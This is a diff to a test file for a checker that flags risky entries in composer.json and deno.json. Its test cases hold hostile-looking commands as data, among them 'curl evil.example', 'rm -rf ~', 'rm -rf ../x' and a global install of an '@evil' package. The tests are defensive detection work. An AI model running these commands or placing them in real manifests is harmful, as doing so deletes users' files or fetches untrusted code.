@@ -251,6 +251,7 @@ describe('a member of composer.json', () => {
     ['+    "test": "curl evil.example"'],
     ['+    "test": "evil"'],
     ['+    "readme": "curl evil.example"'],
+    ['+    "version": "Evil\\\\Runner::run"'],
   ])('is held if it can be a command that does more: %s %s', (...lines) => {
     expect(held('composer.json', ...lines)).toContain('can be a command that does more');
   });
@@ -300,6 +301,7 @@ describe('a member of deno.json', () => {
     ['   "tasks": {', '+    "check": "deno install -g jsr:@evil/x"'],
     ['   "tasks": {', '+    "check": "evil"'],
     ['   "tasks": {', '+    "description": "evil now"'],
+    ['     "build": {', '+      "command": "rm -rf ~"'],
     ['   "tasks": {', '     "check": {', '+      "command": "curl evil.example"'],
     ['+    "check": "rm -rf ../x"'],
   ])('is held if it can be a command that does more: %s %s', (...lines) => {
